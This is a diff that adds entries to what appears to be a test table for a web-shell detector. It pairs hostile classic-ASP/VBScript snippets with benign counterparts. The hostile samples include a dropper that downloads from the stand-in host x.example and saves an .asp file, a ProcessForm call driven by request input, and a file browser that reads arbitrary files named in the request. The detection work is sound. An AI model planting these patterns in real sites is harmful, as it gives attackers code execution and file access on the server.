@@ -280,6 +280,31 @@ TABLE: dict[str, tuple[str, Language, str, str]] = {
         'File.WriteAllT¦ext(Server.MapPath("x.as¦px"), Request["b"]);',
         'File.WriteAllT¦ext(Server.MapPath("x.txt"), Request["b"]);',
     ),
+    "fetched-page": (
+        "drop",
+        VBSCRIPT,
+        'Set h = Server.CreateObject("Microsoft.XMLHT¦TP") : h.Open "GET", "http://x.example/a", 0'
+        " : h.Send\n" + _OPEN.format("ADODB.Str¦eam") + "s.Open : s.Write h.responseBody"
+        ' : s.SaveToFi¦le Server.MapPath("x.as¦p"), 2',
+        'Set h = Server.CreateObject("Microsoft.XMLHTTP") : h.Open "GET", "http://x.example/a", 0'
+        " : h.Send\n" + _OPEN.format("ADODB.Stream") + "s.Open : s.Write h.responseBody"
+        ' : s.SaveToFile Server.MapPath("x.xml"), 2',
+    ),
+    "processed-form": (
+        "run",
+        VBSCRIPT,
+        _OPEN.format("MSWC.To¦ols") + 's.ProcessFo¦rm Request("a"), Request("b")',
+        _OPEN.format("MSWC.Counters") + 's.Increment Request("a")',
+    ),
+    "browser-classic": (
+        "manager",
+        VBSCRIPT,
+        _OPEN.format("Scripting.FileSys¦temObject")
+        + 'For Each f In s.GetFold¦er(Request("a")).Files : Response.Write f.Name : Next : '
+        + 'Response.Write s.OpenText¦File(Request("b"), 1).ReadAll',
+        _OPEN.format("Scripting.FileSystemObject")
+        + 'For Each f In s.GetFolder(Server.MapPath("docs")).Files : Response.Write f.Name : Next',
+    ),
     "drop-classic": (
         "drop",
         VBSCRIPT,
